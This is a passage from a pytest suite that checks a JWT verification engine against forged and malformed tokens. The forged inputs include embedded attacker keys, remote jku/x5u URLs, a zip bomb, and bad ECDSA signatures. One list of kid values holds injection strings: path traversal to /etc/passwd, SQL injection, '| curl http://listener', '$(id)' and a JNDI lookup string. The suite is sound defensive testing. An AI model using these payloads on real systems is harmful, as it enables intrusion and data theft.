    tk.refuse(engine.verify_access, forger.token(payload=payload), MalformedToken)
    header = raw_json(forger.header(), {'"typ":"at+jwt"': f'"typ":{constant}'})
    tk.refuse(engine.verify_access, forger.token(header), MalformedToken)


def test_float_overflow_is_not_a_numeric_date(forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    """`1e400` parses to float inf without any NaN/Infinity literal: the claim type check refuses it."""
    for literal in ("1e400", "-1e400", "1.7e9", "1700000600.0", "17000006e2"):
        payload = raw_json(forger.claims(), {f'"exp":{tk.NOW + 600}': f'"exp":{literal}'})
        tk.refuse(engine.verify_access, forger.token(payload=payload), InvalidClaims)


@pytest.mark.parametrize(
    ("where", "raw"),
    [
        ("header", b'{"alg":"HS256","kid":"\xff","typ":"at+jwt"}'),
        ("header", b'{"alg":"HS256","kid":"\xc0\xaf","typ":"at+jwt"}'),  # overlong
        ("header", b'{"alg":"HS256","kid":"\xed\xa0\x80","typ":"at+jwt"}'),  # encoded surrogate
        ("header", b'{"alg":"HS256","kid":"k\xe9","typ":"at+jwt"}'),  # latin-1
        ("header", b"\xef\xbb\xbf" + b'{"alg":"HS256","typ":"at+jwt"}'),  # UTF-8 BOM
        ("header", '{"alg":"HS256","typ":"at+jwt"}'.encode("utf-16")),  # UTF-16 with BOM
        ("header", '{"alg":"HS256","typ":"at+jwt"}'.encode("utf-16-le")),
        ("header", '{"alg":"HS256","typ":"at+jwt"}'.encode("utf-32")),
        ("payload", b'{"sub":"\xff"}'),
        ("payload", b'{"sub":"\xc0\xaf"}'),
        ("payload", b'{"sub":"\xed\xa0\x80"}'),
        ("payload", b'{"sub":"\xf8\x88\x80\x80\x80"}'),
        ("payload", b"\xef\xbb\xbf{}"),
        ("payload", '{"sub":"u1"}'.encode("utf-16")),
        ("payload", '{"sub":"u1"}'.encode("utf-16-be")),
        ("payload", '{"sub":"u1"}'.encode("utf-32")),
    ],
)
def test_invalid_utf8(where: str, raw: bytes, forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    token = forger.token(raw) if where == "header" else forger.token(payload=raw)
    tk.refuse(engine.verify_access, token, MalformedToken)


def test_utf8_bom_before_a_real_header(forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    header = b"\xef\xbb\xbf" + tk.to_bytes(forger.header())
    tk.refuse(engine.verify_access, forger.token(header), MalformedToken)
    utf16 = json.dumps(forger.header()).encode("utf-16")
    tk.refuse(engine.verify_access, forger.token(utf16), MalformedToken)


@pytest.mark.parametrize(
    "nested",
    [
        "[" * 257 + "]" * 257,
        "[" * 1100 + "]" * 1100,
        "[" * 2500 + "]" * 2500,
        '{"":' * 1100 + "1" + "}" * 1100,
        '[{"":' * 300 + "1" + "}]" * 300,
    ],
    ids=["list-257", "list-1100", "list-2500", "object-1100", "mixed-600"],
)
def test_deep_nesting(nested: str, forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    """Refused on every Python version (3.11 raises RecursionError near 1,000 levels; 3.13 parses
    2,500 levels and more happily, so the codec bounds the number of JSON containers itself)."""
    payload = raw_json(forger.claims(), {'"sid":"': f'"x":{nested},"sid":"'})
    token = forger.token(payload=payload)
    assert len(token) <= codec.MAX_TOKEN_LENGTH, "the nesting must reach the parser, not the size cap"
    tk.refuse(engine.verify_access, token, MalformedToken)


def test_moderate_nesting_is_fine(forger: Any, engine: TokenEngine) -> None:
    """Well under the container bound: an ordinary nested custom claim verifies."""
    claims = forger.claims(perms=[{"r": [1, 2]}] * 20, deep=[[[[["x"]]]]])
    assert engine.verify_access(forger.token(payload=claims)).claims["deep"] == [[[[["x"]]]]]


def test_deep_nesting_in_the_header(forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    header = raw_json(forger.header(), {'"typ":"at+jwt"': '"typ":' + "[" * 150 + "]" * 150})
    tk.refuse(engine.verify_access, forger.token(header), MalformedToken)


@pytest.mark.parametrize("claim", ["exp", "iat", "nbf"])
def test_400_digit_numeric_date(claim: str, forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    for digits in ("9" * 400, "-" + "9" * 400, "1" + "0" * 399):
        payload = (
            raw_json(forger.claims(), {'"sid":"': f'"{claim}":{digits},"sid":"'}) if claim == "nbf" else None
        )
        if payload is None:
            value = forger.claims()[claim]
            payload = raw_json(forger.claims(), {f'"{claim}":{value}': f'"{claim}":{digits}'})
        tk.refuse(engine.verify_access, forger.token(payload=payload), InvalidClaims)


@pytest.mark.parametrize(("max_digits", "expected"), [(4300, MalformedToken), (0, InvalidClaims)])
def test_integer_beyond_the_parser_digit_limit(
    max_digits: int, expected: type[TokenError], forger: Any, engine: TokenEngine, tk: SimpleNamespace
) -> None:
    """5,000 digits: with Python's default int limit (4,300 digits) the parser's ValueError must become
    a MalformedToken; with the limit lifted (PYTHONINTMAXSTRDIGITS=0) the claim check refuses it."""
    payload = raw_json(forger.claims(), {f'"exp":{tk.NOW + 600}': '"exp":' + "9" * 5000})
    token = forger.token(payload=payload)
    assert len(token) <= codec.MAX_TOKEN_LENGTH
    before = sys.get_int_max_str_digits()
    sys.set_int_max_str_digits(max_digits)
    try:
        tk.refuse(engine.verify_access, token, expected)
    finally:
        sys.set_int_max_str_digits(before)


# --- 11, 12, 13. kid --------------------------------------------------------------------------------


@pytest.mark.parametrize("kid", [1, 0, -1, 1.5, None, True, [], ["kid"], {}, {"kid": "x"}, ""], ids=repr)
def test_kid_that_is_not_a_non_empty_string(
    kid: Any, forger: Any, engine: TokenEngine, tk: SimpleNamespace
) -> None:
    tk.refuse(engine.verify_access, forger.token(forger.header(kid=kid)), MalformedToken)


def test_kid_of_the_real_key_in_a_container(forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    for kid in ([forger.kid], {"kid": forger.kid}, {forger.kid: 1}):
        tk.refuse(engine.verify_access, forger.token(forger.header(kid=kid)), MalformedToken)


def test_missing_kid(forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    tk.refuse(engine.verify_access, forger.token(forger.header(kid=tk.DROP)), MalformedToken)


@pytest.mark.parametrize(
    "kid",
    [
        "unknown",
        "x" * 128,
        "../../../../../../dev/null",
        "/dev/null",
        "/invalid_path",
        "../../../../../../etc/passwd",
        "file:///dev/null",
        "x' UNION SELECT '1';--",
        "' OR '1'='1",
        "|sleep 10",
        "| curl http://listener",
        "$(id)",
        "${jndi:ldap://listener/a}",
        "http://attacker.example/key",
        "\u0000",
        "hs-",
    ],
)
@pytest.mark.parametrize("secret", [b"", b"1", b"secret"])
def test_unknown_and_injection_kids(
    kid: str, secret: bytes, forger: Any, engine: TokenEngine, tk: SimpleNamespace
) -> None:
    token = forger.token(forger.header(kid=kid), key=secret)
    tk.refuse(engine.verify_access, token, UnknownKey, no_io=True)


def test_kid_near_miss_of_the_real_kid(forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    real = forger.kid
    for kid in (real.upper(), real.lower(), real + " ", " " + real, real[:-1], real + "\u0000", real + "=="):
        if kid == real:
            continue
        tk.refuse(engine.verify_access, forger.token(forger.header(kid=kid)), UnknownKey)


@pytest.mark.parametrize("length", [129, 300, 10 * 1024])
def test_long_kid(length: int, forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    token = forger.token(forger.header(kid="k" * length))
    tk.refuse(engine.verify_access, token, MalformedToken)


def test_many_distinct_unknown_kids(forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    for i in range(1000):
        token = forger.token(forger.header(kid=f"unknown-{i}"))
        tk.refuse(engine.verify_access, token, UnknownKey, no_io=True)


# --- 14, 15. embedded and remote keys --------------------------------------------------------------


ATTACKER_KEY_FOR = {"ES256": "P-256", "RS256": "RSA", "EdDSA": "Ed25519"}


@pytest.mark.parametrize("alg", ["ES256", "RS256", "EdDSA"])
def test_embedded_attacker_jwk(
    alg: str, make_engine: Any, make_forger: Any, attacker_keys: dict[str, Any], tk: SimpleNamespace
) -> None:
    engine, forger = make_engine(alg), make_forger(alg)
    attacker = attacker_keys[ATTACKER_KEY_FOR[alg]]
    jwk = public_jwk(attacker.public_key())
    thumbprint = SigningKey.from_keys(alg, attacker, attacker.public_key()).kid
    for header in (
        forger.header(jwk=jwk),
        forger.header(jwk=jwk, kid=thumbprint),
        forger.header(jwk={**jwk, "kid": forger.kid}),
        forger.header(jwk=jwk, kid=tk.DROP),
    ):
        tk.refuse(engine.verify_access, forger.token(header, key=attacker), MalformedToken, no_io=True)


def test_embedded_oct_jwk_on_an_hmac_server(forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    secret = b"attacker-secret-attacker-secret-attacker!"
    jwk = {"kty": "oct", "k": tk.b64(secret), "kid": forger.kid}
    tk.refuse(engine.verify_access, forger.token(forger.header(jwk=jwk), key=secret), MalformedToken)


@pytest.mark.parametrize("alg", ["HS256", "ES256", "RS256"])
def test_remote_and_certificate_key_headers(
    alg: str, make_engine: Any, make_forger: Any, attacker_keys: dict[str, Any], tk: SimpleNamespace
) -> None:
    engine, forger = make_engine(alg), make_forger(alg)
    attacker = attacker_keys["P-256" if alg != "RS256" else "RSA"]
    cert_der = self_signed_cert(attacker).public_bytes(serialization.Encoding.DER)
    thumb = tk.b64(hashlib.sha1(cert_der).digest())  # x5t is SHA-1 by definition
    members = {
        "jku": "https://attacker.example/.well-known/jwks.json",
        "x5u": "https://attacker.example/cert.pem",
        "x5c": [base64.b64encode(cert_der).decode()],
        "x5t": thumb,
        "x5t#S256": tk.b64(hashlib.sha256(cert_der).digest()),
    }
    sign_key = attacker if alg in ("ES256", "RS256") else None
    for name, value in members.items():
        for header in (forger.header(**{name: value}), {**forger.header(kid=tk.DROP), name: value}):
            token = forger.token(header, key=sign_key)
            tk.refuse(engine.verify_access, token, MalformedToken, no_io=True)


# --- 16, 17, 19. crit, b64, zip, JWE and other header members ------------------------------------


@pytest.mark.parametrize(
    "extra",
    [
        {"crit": ["foo"], "foo": 1},
        {"crit": []},
        {"crit": "b64"},
        {"crit": ["alg"]},
        {"crit": ["exp"]},
        {"crit": ["b64"], "b64": True},
        {"crit": None},
        {"crit": [1]},
    ],
    ids=repr,
)
def test_any_crit_is_refused(
    extra: dict[str, Any], forger: Any, engine: TokenEngine, tk: SimpleNamespace
) -> None:
    tk.refuse(engine.verify_access, forger.token(forger.header(**extra)), MalformedToken)


def test_b64_false(forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    raw_payload = b'{"sub":"admin","type":"access"}'  # no dots, so the token keeps three segments
    for header in (forger.header(b64=False, crit=["b64"]), forger.header(b64=False)):
        header_segment = tk.b64(tk.to_bytes(header))
        signing_input = header_segment.encode() + b"." + raw_payload
        token = f"{header_segment}.{raw_payload.decode()}.{tk.b64(forger.sign(signing_input))}"
        assert token.count(".") == 2
        tk.refuse(engine.verify_access, token, MalformedToken)
        # The same header with an ordinary base64url payload is refused for the header alone.
        tk.refuse(engine.verify_access, forger.token(header), MalformedToken)
    big = b'{"sub":"' + b"a" * 200_000 + b'"}'
    header_segment = tk.b64(tk.to_bytes(forger.header(b64=False, crit=["b64"])))
    token = f"{header_segment}.{big.decode()}.{tk.b64(forger.sign(header_segment.encode() + b'.' + big))}"
    tk.refuse(engine.verify_access, token, MalformedToken)


def test_zip_def(forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    compressor = zlib.compressobj(wbits=-15)
    deflated = compressor.compress(tk.to_bytes(forger.claims())) + compressor.flush()
    for zip_value in ("DEF", "def", "GZIP", None):
        tk.refuse(engine.verify_access, forger.token(forger.header(zip=zip_value), deflated), MalformedToken)
        tk.refuse(engine.verify_access, forger.token(forger.header(zip=zip_value)), MalformedToken)
    bomb = zlib.compressobj(wbits=-15)
    bomb_bytes = bomb.compress(b"\x00" * 10_000_000) + bomb.flush()
    tk.refuse(engine.verify_access, forger.token(forger.header(zip="DEF"), bomb_bytes), MalformedToken)


@pytest.mark.parametrize(
    "header",
    [
        {"alg": "RSA-OAEP", "enc": "A256GCM"},
        {"alg": "dir", "enc": "A128CBC-HS256"},
        {"alg": "PBES2-HS256+A128KW", "enc": "A128GCM", "p2c": 2_000_000_000, "p2s": "c2FsdA"},
        {"alg": "ECDH-ES", "enc": "A128GCM", "epk": {"kty": "EC", "crv": "P-256", "x": "AA", "y": "AA"}},
    ],
    ids=["rsa-oaep", "dir", "pbes2-huge-p2c", "ecdh-es"],
)
def test_jwe_is_refused(
    header: dict[str, Any], forger: Any, engine: TokenEngine, tk: SimpleNamespace
) -> None:
    header = {**header, "kid": forger.kid, "typ": "at+jwt"}
    h = tk.b64(tk.to_bytes(header))
    five = f"{h}.{tk.b64(b'k' * 32)}.{tk.b64(b'iv' * 6)}.{tk.b64(b'ciphertext')}.{tk.b64(b't' * 16)}"
    tk.refuse(engine.verify_access, five, MalformedToken)
    direct = f"{h}..{tk.b64(b'iv' * 6)}.{tk.b64(b'ciphertext')}.{tk.b64(b't' * 16)}"
    tk.refuse(engine.verify_access, direct, MalformedToken)
    # Three segments with a JWE header, even signed with the real secret, is not a JWS of ours.
    tk.refuse(engine.verify_access, forger.token({**header, "alg": "HS256"}), MalformedToken)


@pytest.mark.parametrize(
    "member",
    [
        {"cty": "JWT"},
        {"enc": "A128GCM"},
        {"zip": "DEF"},
        {"b64": True},
        {"url": "https://api.example.com"},
        {"nonce": "n"},
        {"iss": "https://auth.example.com"},
        {"Alg": "HS256"},
        {"KID": "x"},
        {"": ""},
        {"typ ": "at+jwt"},
        {"x5t#S256": "AA"},
    ],
    ids=repr,
)
def test_header_members_fastauth_never_writes(
    member: dict[str, Any], forger: Any, engine: TokenEngine, tk: SimpleNamespace
) -> None:
    tk.refuse(engine.verify_access, forger.token({**forger.header(), **member}), MalformedToken)


# --- 25. size ------------------------------------------------------------------------------------


@pytest.fixture
def no_decoding(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Fail the test if anything is decoded: the size check must come first."""
    called: list[str] = []

    def boom(name: str) -> Callable[..., Any]:
        def refuse(*args: Any, **kwargs: Any) -> Any:
            called.append(name)
            raise AssertionError(f"{name} was called on an oversized token")

        return refuse

    monkeypatch.setattr(codec, "b64url_decode", boom("b64url_decode"))
    monkeypatch.setattr(codec, "json_loads_strict", boom("json_loads_strict"))
    monkeypatch.setattr(binascii, "a2b_base64", boom("a2b_base64"))
    return called


def sized_token(forger: Any, length: int) -> str:
    """A correctly signed HS256 token of exactly `length` characters (a `pad` claim fills it)."""
    for spaces in range(4):
        header = spaced_json(forger.header(), spaces)
        for pad in range(max(0, (length * 3) // 4 - 400), length):
            token = str(forger.token(header, forger.claims(pad="p" * pad)))
            if len(token) == length:
                return token
            if len(token) > length:
                break
    raise AssertionError(f"no token of length {length}")


def test_token_of_exactly_the_maximum_length_verifies(forger: Any, engine: TokenEngine) -> None:
    token = sized_token(forger, codec.MAX_TOKEN_LENGTH)
    assert codec.MAX_TOKEN_LENGTH == 8192
    assert engine.verify_access(token).claims["pad"]


def test_token_over_8_kib_is_refused_before_decoding(
    forger: Any, engine: TokenEngine, no_decoding: list[str], tk: SimpleNamespace
) -> None:
    signed = sized_token(forger, codec.MAX_TOKEN_LENGTH + 1)  # valid signature, one character too long
    h, p, s = segments(forger.token())
    for token in (
        signed,
        "a" * (codec.MAX_TOKEN_LENGTH + 1),
        "." * (codec.MAX_TOKEN_LENGTH + 1),
        f"{h}.{'A' * 5_000_000}.{s}",  # 5 MB payload
        f"{'A' * 1_000_000}.{p}.{s}",  # 1 MB header
        f"{h}.{p}.{'A' * 100_000}",
        f"{h}.{p}.{s}" + "=" * 10_000,
        "\u00e9" * 10_000,
    ):
        error = tk.refuse(engine.verify_access, token, MalformedToken)
        assert len(str(error)) < 100
    assert no_decoding == []


def test_oversized_header_segment_is_refused_before_decoding(
    forger: Any, engine: TokenEngine, no_decoding: list[str], tk: SimpleNamespace
) -> None:
    _, p, s = segments(forger.token())
    token = f"{'A' * 600}.{p}.{s}"
    assert len(token) < codec.MAX_TOKEN_LENGTH
    tk.refuse(engine.verify_access, token, MalformedToken)
    assert no_decoding == []


# --- 26, 27. time claims -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("leeway", "exp_offset"),
    [(0, -1), (0, 0), (5, -5), (5, -6), (5, -(10**6)), (0, -(10**6))],
)
def test_expired(leeway: int, exp_offset: int, make_engine: Any, forger: Any, tk: SimpleNamespace) -> None:
    """Valid while now < exp + leeway (inclusive boundary: exp + leeway == now is expired)."""
    engine = make_engine("HS256", leeway=leeway)
    token = forger.token(payload=forger.claims(exp=tk.NOW + exp_offset, iat=tk.NOW - 10**6))
    tk.refuse(engine.verify_access, token, ExpiredToken)
    first_valid = forger.token(payload=forger.claims(exp=tk.NOW - leeway + 1, iat=tk.NOW - 10**6))
    assert engine.verify_access(first_valid).sub == "user-1"


@pytest.mark.parametrize("claim", ["nbf", "iat"])
@pytest.mark.parametrize("offset", [6, 60, 3600, 10**9])
def test_not_yet_valid(
    claim: str, offset: int, forger: Any, engine: TokenEngine, tk: SimpleNamespace
) -> None:
    token = forger.token(payload=forger.claims(**{claim: tk.NOW + offset}))
    tk.refuse(engine.verify_access, token, InvalidClaims)
    within = forger.token(payload=forger.claims(**{claim: tk.NOW + engine.leeway}))
    assert engine.verify_access(within).sub == "user-1"


# --- 28, 29. required claims and their types ----------------------------------------------------


@pytest.mark.parametrize("claim", ["sub", "type", "iat", "exp", "iss", "aud", "jti", "sid"])
def test_each_required_claim_missing(
    claim: str, forger: Any, engine: TokenEngine, tk: SimpleNamespace
) -> None:
    token = forger.token(payload=forger.claims(**{claim: tk.DROP}))
    tk.refuse(engine.verify_access, token, WrongTokenType if claim == "type" else InvalidClaims)


def test_all_claims_missing(forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    tk.refuse(engine.verify_access, forger.token(payload={}), WrongTokenType)
    tk.refuse(engine.verify_access, forger.token(payload={"type": "access"}), InvalidClaims)


WRONG_TYPES: list[tuple[str, Any]] = [
    *[
        ("exp", v)
        for v in ["1700000600", True, False, 1700000600.0, 1700000600.5, [1700000600], None, {}, -1]
    ],
    *[("exp", v) for v in [2**53 + 1, 2**64, ""]],
    *[("iat", v) for v in ["1699999990", True, 1699999990.0, None, [], -5]],
    *[("nbf", v) for v in ["0", True, None, 0.5, []]],
    *[("sub", v) for v in [1, 0, ["user-1"], None, "", {}, True, 1.5, "u" * 257]],
    *[("jti", v) for v in [1, "", None, ["j"], "j" * 257]],
    *[("sid", v) for v in [1, "", None, {"sid": "s"}, "s" * 257]],
    *[("aud", v) for v in [{"aud": "https://api.example.com"}, 1, ["https://api.example.com", 1], [], None]],
    *[("aud", v) for v in [[["https://api.example.com"]], True, "", [None, "https://api.example.com"]]],
    *[("iss", v) for v in [1, None, True, {"iss": "https://auth.example.com"}]],
]


@pytest.mark.parametrize(("claim", "value"), WRONG_TYPES, ids=lambda v: repr(v)[:30])
def test_wrong_claim_types(
    claim: str, value: Any, forger: Any, engine: TokenEngine, tk: SimpleNamespace
) -> None:
    tk.refuse(engine.verify_access, forger.token(payload=forger.claims(**{claim: value})), InvalidClaims)


# --- 30, 31. issuer and audience ---------------------------------------------------------------


@pytest.mark.parametrize(
    "iss",
    [
        "https://evil.example.com",
        "https://auth.example.co",  # prefix
        "https://auth.example",
        "auth.example.com",  # substring
        "https://auth.example.com.evil.com",  # superstring
        "https://auth.example.comm",
        "https://auth.example.com/",
        " https://auth.example.com",
        "https://auth.example.com\u0000",
        "HTTPS://AUTH.EXAMPLE.COM",
        "",
        ["https://auth.example.com"],
        ["https://auth.example.com", "https://evil.example.com"],
    ],
    ids=repr,
)
def test_issuer_must_match_exactly(iss: Any, forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    assert tk.ISSUER == "https://auth.example.com"
    tk.refuse(engine.verify_access, forger.token(payload=forger.claims(iss=iss)), InvalidClaims)


@pytest.mark.parametrize(
    "aud",
    [
        "https://other.example.com",
        ["https://other.example.com"],
        "https://api.example.co",
        ["https://api.example.co"],
        ["https://api.example.com/"],
        ["HTTPS://API.EXAMPLE.COM"],
        "https://api.example.com.evil",
        ["https://api.example.comm", "x"],
    ],
    ids=repr,
)
def test_audience_without_ours(aud: Any, forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    tk.refuse(engine.verify_access, forger.token(payload=forger.claims(aud=aud)), InvalidClaims)


@pytest.mark.parametrize(
    "aud",
    [
        ["https://api.example.com"],
        "https://api.example.com",
        ["https://other.example.com", "https://api.example.com"],
    ],
    ids=repr,
)
def test_audience_forms_that_are_accepted(aud: Any, forger: Any, engine: TokenEngine) -> None:
    """Documented: `aud` may be our identifier or a list containing it (other audiences allowed)."""
    assert engine.verify_access(forger.token(payload=forger.claims(aud=aud))).sub == "user-1"


# --- 18, 32. type claim and typ header ----------------------------------------------------------


@pytest.mark.parametrize(
    "value", ["refresh", "ACCESS", "Access", "access ", "", "id", None, 1, ["access"], True]
)
def test_wrong_type_claim(value: Any, forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    tk.refuse(engine.verify_access, forger.token(payload=forger.claims(type=value)), WrongTokenType)


@pytest.mark.parametrize(
    "typ",
    [
        "JWT",
        "jwt",
        "rt+jwt",
        "application/rt+jwt",
        "application/jwt",
        "at+jwt ",
        " at+jwt",
        "at+jwt; charset=utf-8",
        "at+jwt\u0000",
        "",
        "at",
        "id_token+jwt",
        "secevent+jwt",
        "application/at+jwt+x",
        "\uff21\uff34+\uff2a\uff37\uff34",  # fullwidth AT+JWT
        "appl\u0130cation/at+jwt",  # dotted capital I: lower() is not ASCII case folding
        "at\u200b+jwt",
    ],
)
def test_wrong_typ_for_an_access_token(
    typ: str, forger: Any, engine: TokenEngine, tk: SimpleNamespace
) -> None:
    tk.refuse(engine.verify_access, forger.token(forger.header(typ=typ)), WrongTokenType)


@pytest.mark.parametrize("typ", [DROP_MARK, None, 1, ["at+jwt"], {"typ": "at+jwt"}, True])
def test_missing_or_non_string_typ(typ: Any, forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    header = forger.header(typ=tk.DROP if typ == DROP_MARK else typ)
    tk.refuse(engine.verify_access, forger.token(header), MalformedToken)


@pytest.mark.parametrize("typ", ["at+jwt", "AT+JWT", "At+Jwt", "application/at+jwt", "APPLICATION/AT+JWT"])
def test_accepted_typ_spellings(typ: str, forger: Any, engine: TokenEngine) -> None:
    """Media types compare case-insensitively (RFC 9068 §4 allows the `application/` form)."""
    assert engine.verify_access(forger.token(forger.header(typ=typ))).sub == "user-1"


@pytest.mark.parametrize("typ", ["rt+jwt", "RT+JWT", "application/rt+jwt"])
def test_refresh_typ_refused_for_access(
    typ: str, forger: Any, engine: TokenEngine, tk: SimpleNamespace
) -> None:
    token = forger.token(forger.header(typ=typ), forger.claims(type="refresh"))
    assert engine.verify_refresh(token).type == "refresh"
    tk.refuse(engine.verify_access, token, WrongTokenType)


def test_id_token_shaped_token(forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    claims = {
        "iss": tk.ISSUER,
        "sub": "user-1",
        "aud": tk.AUDIENCE,
        "exp": tk.NOW + 600,
        "iat": tk.NOW,
        "nonce": "n-0S6_WzA2Mj",
        "email": "alice@example.com",
    }
    token = forger.token(forger.header(typ="JWT"), claims)
    tk.refuse(engine.verify_access, token, WrongTokenType)
    tk.refuse(engine.verify_refresh, token, WrongTokenType)
    tk.refuse(engine.verify_access, forger.token(forger.header(), claims), WrongTokenType)


def test_cross_type_substitution_both_directions(engine: TokenEngine, tk: SimpleNamespace) -> None:
    access = engine.issue_access("u", "s").token
    refresh = engine.issue_refresh("u", "s").token
    tk.refuse(engine.verify_refresh, access, WrongTokenType)
    tk.refuse(engine.verify_access, refresh, WrongTokenType)


# --- 7, 8, 9. ECDSA --------------------------------------------------------------------------------


@pytest.fixture
def es256(make_engine: Any, make_forger: Any) -> tuple[TokenEngine, Any]:
    return make_engine("ES256"), make_forger("ES256")


def es_signature(r: int, s: int, size: int = 32) -> bytes:
    return r.to_bytes(size, "big") + s.to_bytes(size, "big")


def test_ecdsa_all_zero_signature(es256: tuple[TokenEngine, Any], tk: SimpleNamespace) -> None:
    engine, forger = es256
    tk.refuse(engine.verify_access, forger.token(signature=bytes(64)), InvalidSignature)


@pytest.mark.parametrize("alg", ["ES256", "ES384", "ES512"])
def test_ecdsa_special_values(alg: str, make_engine: Any, make_forger: Any, tk: SimpleNamespace) -> None:
    engine, forger = make_engine(alg), make_forger(alg)
    size, n = ES_SIZES[alg], CURVE_ORDERS[alg]
    good = forger.token()
    raw = tk.unb64(segments(good)[2])
    r, s = int.from_bytes(raw[:size], "big"), int.from_bytes(raw[size:], "big")
    special = [
        (0, 0),
        (0, s),
        (r, 0),
        (n, s),
        (r, n),
        (n, n),
        (1, 1),
        (n - 1, n - 1),
        (r + n, s) if r + n < 2 ** (8 * size) else (n + 1, s),
        (r, s + n) if s + n < 2 ** (8 * size) else (r, n + 1),
        (2 ** (8 * size) - 1, 2 ** (8 * size) - 1),
    ]
    for r2, s2 in special:
        tk.refuse(
            engine.verify_access,
            replace_segment(good, 2, tk.b64(es_signature(r2, s2, size))),
            InvalidSignature,
        )
    tk.refuse(engine.verify_access, forger.token(signature=bytes(2 * size)), InvalidSignature)


def test_ecdsa_der_signature_and_wrong_lengths(
    es256: tuple[TokenEngine, Any], private_keys: dict[str, Any], tk: SimpleNamespace
) -> None:
    engine, forger = es256
    good = forger.token()
    h, p, raw = segments(good)
    signing_input = f"{h}.{p}".encode()
    der = private_keys["ES256"].sign(signing_input, ec.ECDSA(hashes.SHA256()))
    raw_sig = tk.unb64(raw)
    r, s = decode_dss_signature(der)
    assert encode_dss_signature(r, s) == der
    for signature in (
        der,
        encode_dss_signature(int.from_bytes(raw_sig[:32], "big"), int.from_bytes(raw_sig[32:], "big")),
        raw_sig[:63],
        raw_sig + b"\x00",
        b"\x00" + raw_sig,
        raw_sig[:32],
        raw_sig * 2,
        raw_sig + raw_sig[32:],  # the ES384 length
    ):
        tk.refuse(engine.verify_access, f"{h}.{p}.{tk.b64(signature)}", InvalidSignature)


@pytest.mark.parametrize("alg", ["ES256", "ES384", "ES512"])
def test_ecdsa_high_s_twin(alg: str, make_engine: Any, tk: SimpleNamespace) -> None:
    """ECDSA malleability (catalogue item 8), documented rather than refused.

    (r, n - s) is a second valid signature of the same token. `cryptography` (and so the engine) does
    not enforce low-s, so the twin VERIFIES: it is a different string carrying the same claims. That
    is safe only because revocation and refresh-reuse detection key on `jti`/`sid`, never on the token
    text; this test pins that the twin's `jti` (and every claim) is the original's. If the engine ever
    enforces low-s, the twin must raise InvalidSignature instead; update this test then. (The twin
    verifying also proves CURVE_ORDERS, used by the special-value tests, is right.)
    """
    engine = make_engine(alg)
    size, n = ES_SIZES[alg], CURVE_ORDERS[alg]
    original = engine.issue_access("u", "s").token
    h, p, raw_segment = segments(original)
    raw = tk.unb64(raw_segment)
    r, s = int.from_bytes(raw[:size], "big"), int.from_bytes(raw[size:], "big")
    twin = f"{h}.{p}.{tk.b64(es_signature(r, n - s, size))}"
    assert twin != original
    verified, verified_twin = engine.verify_access(original), engine.verify_access(twin)
    assert verified_twin.jti == verified.jti
    assert verified_twin.sid == verified.sid
    assert verified_twin.claims == verified.claims


@pytest.mark.parametrize(
    ("token_alg", "ring_alg"),
    [("ES256", "ES384"), ("ES512", "ES256"), ("ES384", "ES512"), ("RS256", "ES256"), ("ES256", "EdDSA")],
)
def test_curve_and_key_mismatch_with_the_same_kid(
    token_alg: str,
    ring_alg: str,
    make_engine: Any,
    make_forger: Any,
    private_keys: dict[str, Any],
    tk: SimpleNamespace,
) -> None:
    """A token verified against a ring whose key (under the same kid) is of another curve/type."""
    forger = make_forger(token_alg)
    token = forger.token()
    ring_private = private_keys[ring_alg]
    ring = KeyRing([SigningKey.from_keys(ring_alg, ring_private, ring_private.public_key(), kid=forger.kid)])
    engine = make_engine(keyring=ring)
    tk.refuse(engine.verify_access, token, AlgorithmMismatch)
    # Header claiming the ring's algorithm, signature made on the other curve: the signature fails.
    forged = forger.token(forger.header(alg=ring_alg), sign_alg=token_alg)
    tk.refuse(engine.verify_access, forged, InvalidSignature)


def test_ecdsa_token_against_a_p384_ring_with_its_own_kid(
    make_engine: Any, make_forger: Any, tk: SimpleNamespace
) -> None:
    token = make_forger("ES256").token()
    tk.refuse(make_engine("ES384").verify_access, token, UnknownKey)


# --- 33. retired and foreign keys --------------------------------------------------------------


def test_retired_and_foreign_keys(
    make_engine: Any, private_keys: dict[str, Any], tk: SimpleNamespace
) -> None:
    tenant_a = SigningKey.from_secret("tenant-a-" + tk.SECRET)
    tenant_b = SigningKey.from_secret("tenant-b-" + tk.SECRET)
    token_a = make_engine(keyring=KeyRing([tenant_a])).issue_access("u", "s").token
    tk.refuse(make_engine(keyring=KeyRing([tenant_b])).verify_access, token_a, UnknownKey)
    staging = SigningKey.from_secret("staging-" + tk.SECRET, kid=tenant_a.kid)
    tk.refuse(make_engine(keyring=KeyRing([staging])).verify_access, token_a, InvalidSignature)


# --- 40. error oracle ---------------------------------------------------------------------------


MARKER = "LEAKMARKER7f3a"


def test_refusals_never_echo_token_content(forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    """Decoded header and claim values (not just the base64 text) never appear in a refusal."""
    m = MARKER
    tokens = [
        forger.token(forger.header(kid=m)),
        forger.token(forger.header(kid=m * 20)),
        forger.token(forger.header(alg=m)),
        forger.token(forger.header(typ=m)),
        forger.token(forger.header(**{m: 1})),
        forger.token(forger.header(jku=f"https://{m}.example")),
        forger.token(payload=forger.claims(sub=m, exp=tk.NOW - 100)),
        forger.token(payload=forger.claims(iss=m)),
        forger.token(payload=forger.claims(aud=[m])),
        forger.token(payload=forger.claims(type=m)),
